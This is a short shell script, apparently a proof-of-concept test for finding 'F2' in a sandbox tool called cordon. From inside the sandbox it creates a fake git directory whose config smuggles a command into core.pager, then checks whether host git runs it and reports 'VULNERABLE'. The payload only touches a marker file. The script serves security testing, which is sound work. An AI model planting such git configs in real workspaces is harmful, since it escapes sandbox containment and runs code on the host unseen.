#!/bin/sh
# F2 (MEDIUM): any ordinary workspace directory becomes a git directory when
# it holds HEAD, objects/, refs/ (git's discovery tests DIR itself after
# DIR/.git). Its 'config' is not a protected name, so core.pager (and other
# command-valued keys) run when the host runs git there with a tty.
# Direct and overlay modes (overlay applies src/config, not held back).
set -eu
C=${1:-build/cordon}; C=$(readlink -f "$C")
WS=$(mktemp -d); cd "$WS"; git init -q .; mkdir src
"$C" run --rw "$WS" --cwd "$WS" -- sh -c '
mkdir -p src/objects src/refs; echo "ref: refs/heads/main" > src/HEAD
printf "[core]\n\tpager = touch /tmp/cordon-F2; cat\n" > src/config; echo created'
rm -f /tmp/cordon-F2
cd "$WS/src" && script -qc "git config -l" /dev/null </dev/null >/dev/null 2>&1 || true
if [ -e /tmp/cordon-F2 ]; then echo "VULNERABLE: host git in src/ ran the run's pager"; rm -f /tmp/cordon-F2; fi
